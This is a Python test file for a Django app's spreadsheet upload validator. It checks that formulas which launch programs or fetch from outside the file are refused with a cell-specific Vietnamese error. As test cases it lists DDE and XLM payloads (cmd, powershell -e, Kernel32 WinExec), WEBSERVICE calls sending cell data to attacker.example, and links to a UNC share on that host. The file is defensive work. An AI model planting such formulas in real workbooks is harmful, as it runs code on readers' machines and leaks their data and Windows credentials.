"""A workbook whose formulas start a program or fetch from outside the file is refused, with a
message naming the sheet and the cell: DDE (`=cmd|' /C calc'!A0`, Excel opens the program
after a prompt many click through), XLM's CALL, REGISTER and EXEC, RTD, WEBSERVICE and IMAGE
(fetched on recalculation, without a click), a reference to another workbook or a HYPERLINK
to a file or a network share (Windows hands the share the reader's login). Wherever a
formula is written: a cell (a shared formula's first cell), a defined name, a validation.
Ordinary formulas (SUM, IF, another sheet's cells, a web link) still pass."""

import html
from io import BytesIO

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from openpyxl import Workbook, load_workbook
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from campaign import workbooks
from campaign.models import WorkbookUpload
from campaign.workbooks import FIRST_ROW
from tests.campaign.workbooks.helpers import download_reports, reports_url, rewrite

REFUSED = "công thức khởi chạy chương trình hoặc lấy nội dung từ bên ngoài tệp"


def workbook(formula=None, *, second=None, change=None):
    """A workbook of two sheets, “Kết quả” and “Phụ lục”: `formula` in B2 of the first,
    `second` in C3 of the second; `change(book)` adds anything else."""
    book = Workbook()
    first = book.active
    first.title = "Kết quả"
    first["A2"] = 12
    if formula:
        first["B2"] = formula
    appendix = book.create_sheet("Phụ lục")
    appendix["A1"] = 3
    if second:
        appendix["C3"] = second
    if change:
        change(book)
    buffer = BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def refusal(content):
    with translation.override("vi"), pytest.raises(workbooks.WorkbookError) as excinfo:
        workbooks.check_container(content)
    return str(excinfo.value)


@pytest.mark.parametrize(
    "formula",
    [
        "=cmd|' /C calc'!A0",
        "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
        "=SUM(1+1)*cmd|' /C powershell -e JABzAD0A'!A0",
        '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
        '=CALL("Kernel32","WinExec","JCJ","calc.exe",0)',
        '=REGISTER("Kernel32","WinExec","JCJ","Chay",,1,9)',
        '=REGISTER.ID("Kernel32","WinExec")',
        '=EXEC("calc.exe")',
        '=RTD("Progid.Server",,"topic")',
        '=_xlfn.WEBSERVICE("http://attacker.example/?d="&A2)',
        '=FILTERXML(_xlfn.WEBSERVICE("http://attacker.example/a.xml"),"//a")',
        '=webservice("http://attacker.example/")',
        '=_xlfn.IMAGE("https://tracker.example/pixel.png")',
        '=_xlfn.STOCKHISTORY("MSFT",DATE(2026,1,1))',
        '=_xlfn.TRANSLATE(A2,"vi","en")',
        '=_xlfn.COPILOT("Tóm tắt",A2:A9)',
        '=HYPERLINK("file://attacker.example/share/x.xlsx","Xem")',
        '=HYPERLINK("\\\\attacker.example\\share\\x.xlsx","Xem")',
        '=HYPERLINK(A2,"Xem")',  # a target computed from a cell: anything at all
        "='\\\\attacker.example\\share\\[so-lieu.xlsx]Sheet1'!A1",
        "='C:\\So lieu\\[so-lieu.xlsx]Sheet1'!A1",
        "=[1]Sheet1!A1",
        "=SUM([so-lieu.xlsx]Sheet1!A1:A3)",
    ],
)
def test_a_formula_that_runs_or_fetches_is_refused_naming_its_sheet_and_cell(formula):
    text = refusal(workbook(formula))
    assert REFUSED in text
    assert "trang Kết quả, ô B2" in text
    assert formula[:40] in text


@pytest.mark.parametrize(
    "formula",
    [
        "=SUM(A1:A3)",
        '=IF(A2>0,"Có","Không")',
        "='Phụ lục'!A1*2",
        "=SUM('Phụ lục'!A1:A3)+Sheet2!B4",
        '=IF(A2="a|b",1,0)',  # a pipe inside a text is no DDE
        '=CONCATENATE("=cmd|","x")',
        '="WEBSERVICE(" & A2',
        "=ISTEXT(A2)+ISNUMBER(A2)",
        "=SUM(Bang1[So buoi])",  # a table's column
        "=SUM(Bang1[So buoi])+Sheet2!A1",
        "=SUM('Tháng 1:Tháng 3'!B2)",  # the same cell of three sheets
        '=HYPERLINK("https://thuvienphapluat.vn/van-ban/","Văn bản")',
        '=HYPERLINK("mailto:cspl@ldld.example.gov.vn","Gửi Ban CSPL")',
        '=HYPERLINK("#\'Phụ lục\'!A1","Sang phụ lục")',
    ],
)
def test_ordinary_formulas_are_accepted(formula):
    workbooks.check_container(workbook(formula))


def test_a_formula_on_another_sheet_names_that_sheet():
    text = refusal(workbook("=SUM(A2)", second="=cmd|' /C calc'!A0"))
    assert "trang Phụ lục, ô C3" in text


def test_a_shared_formula_is_read_at_its_first_cell():
    # Excel writes a formula filled down once, on its first cell; the others point to it.
    content = rewrite(
        workbook("=_xlfn.WEBSERVICE(A2)"),
        "xl/worksheets/sheet1.xml",
        lambda xml: xml.replace(
            "<f>_xlfn.WEBSERVICE(A2)</f>",
            '<f t="shared" ref="B2:B9" si="0">_xlfn.WEBSERVICE(A2)</f>',
        ).replace(
            "</row></sheetData>",
            '</row><row r="3"><c r="B3"><f t="shared" si="0"/></c></row></sheetData>',
        ),
    )
    text = refusal(content)
    assert "trang Kết quả, ô B2" in text


def test_a_cell_written_without_its_reference_is_named_by_its_place():
    content = rewrite(
        workbook('=EXEC("calc.exe")'),
        "xl/worksheets/sheet1.xml",
        lambda xml: xml.replace('<c r="B2"', "<c"),
    )
    assert "trang Kết quả, ô B2" in refusal(content)


def test_a_defined_name_that_fetches_is_refused():
    def name(book):
        book.defined_names["ty_gia"] = DefinedName(
            "ty_gia", attr_text='_xlfn.WEBSERVICE("http://attacker.example/")'
        )

    text = refusal(workbook("=ty_gia*2", change=name))
    assert REFUSED in text and "tên đã xác định “ty_gia”" in text


def test_a_validation_that_fetches_is_refused():
    def validation(book):
        rule = DataValidation(type="custom", formula1='LEN(_xlfn.WEBSERVICE("http://a.example/"))')
        rule.add("C3")
        book.worksheets[1].add_data_validation(rule)

    text = refusal(workbook(change=validation))
    assert REFUSED in text and "trang Phụ lục, ô C3" in text


def test_the_annual_reports_upload_refuses_it_with_a_message_naming_the_cell(client, world):
    client.force_login(world.users["officer"])
    unit = world.own["unit"]
    book = load_workbook(BytesIO(download_reports(client, world.campaign, unit, world.year)))
    sheet = book.worksheets[0]
    sheet.cell(FIRST_ROW, 4).value = "=cmd|' /C calc'!A0"
    buffer = BytesIO()
    book.save(buffer)
    response = client.post(
        reports_url("upload", world.campaign, unit, world.year),
        {"file": SimpleUploadedFile("bao-cao.xlsx", buffer.getvalue())},
    )
    assert response.status_code == 400
    [error] = response.context["form"].errors["file"]
    assert REFUSED in error and f"trang {sheet.title}, ô D{FIRST_ROW}" in error
    assert error in html.unescape(response.content.decode())
    assert not WorkbookUpload.objects.exists()
